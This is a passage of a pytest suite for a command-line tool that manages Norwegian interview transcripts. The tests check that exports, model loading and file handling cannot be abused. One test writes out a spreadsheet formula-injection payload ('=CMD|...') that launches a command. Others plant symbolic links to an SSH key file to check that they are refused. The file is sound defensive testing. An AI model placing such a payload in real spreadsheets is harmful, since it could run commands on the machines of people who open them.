        results = [(p.wait(timeout=120), p.stderr.read() if p.stderr else b"") for p in readers]
    assert [(rc, err.decode()[-300:]) for rc, err in results] == [(0, "")] * 2


# --- beyond the list: other ways a shared workspace could reach out ------------------------


def test_beyond_a_quote_that_looks_like_a_formula_stays_text_in_xlsx(ws: Workspace, cli):
    """A transcript line "=HYPERLINK(…)" must not become a live formula in a teammate's
    Excel (formula injection through the quote bank)."""
    import openpyxl

    body = "I: Hva skrev du i feltet?\n\nR: =CMD|' /C notepad'!A0 sto det, rart nok.\n"
    write_transcript(ws, "vei-09", "veileder", body)
    api.add_unit(ws, "vei-09", "ms", ["formel"], quote="=CMD|' /C notepad'!A0")
    r = cli(ws.root, "unit", "list", "--format", "xlsx")
    assert r.exit_code == 0, r.output
    sheet = openpyxl.load_workbook(ws.root / "reports" / "units.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=CMD")]
    assert cells and all(c.data_type == "s" for c in cells)


def test_beyond_an_nlp_model_path_in_stc_yaml_is_refused(ws: Workspace, monkeypatch):
    """spaCy loads a pipeline from a folder path too; stc.yaml may name only a package."""
    from stc.errors import FormatError
    from stc.nlp import pipeline

    with pytest.raises(FormatError, match="not the name of a spaCy model package"):
        pipeline("nb", "./modeller/nb")
    monkeypatch.chdir(ws.root)
    (ws.root / "nb_core_news_xx").mkdir()  # a committed folder with a package's name
    with pytest.raises(StcError, match="is not installed"):
        pipeline("nb", "nb_core_news_xx")


@needs_links
def test_beyond_a_text_file_link_in_the_workspace_is_not_followed(
    demo: Workspace, cli, outside: Path
):
    os.symlink(outside / "id_ed25519.pub", demo.root / "utkast.md")
    r = cli(demo.root, "synthesize", "kompetanse", "--text-file", str(demo.root / "utkast.md"))
    assert r.exit_code == 1 and "utkast.md is a symbolic link" in r.stderr
    assert "AAAAC3" not in (demo.root / "analyses" / "step4" / "kompetanse.md").read_text()


def test_beyond_files_the_user_names_outside_the_workspace_still_work(ws: Workspace, cli, tmp_path):
    ids = tmp_path / "navneliste.yaml"
    ids.write_text("schema_version: 1\nidentifiers:\n- Kari Nordmann\n", encoding="utf-8")
    raw = tmp_path / "vei-09.txt"
    raw.write_text("I: Hvem?\n\nR: Jeg snakket med Kari Nordmann.\n", encoding="utf-8")
    api.import_transcripts(ws, [raw], group="veileder", force=True)
    r = cli(ws.root, "anon", "apply", "--identifiers", str(ids))
    assert r.exit_code == 0, r.output
    assert "Kari Nordmann" not in (ws.root / "transcripts" / "vei-09.md").read_text()


@needs_links
def test_beyond_setup_does_not_copy_a_linked_gitattributes_into_the_repository(
    repo: Path, outside: Path
):
    (repo / ".gitattributes").unlink()
    os.symlink(outside / "id_ed25519.pub", repo / ".gitattributes")
    with pytest.raises(UnsafePath, match=r"\.gitattributes is a symbolic link"):
        api.setup_clone(Workspace(repo), hooks=False)
    assert (outside / "id_ed25519.pub").read_text() == SECRET
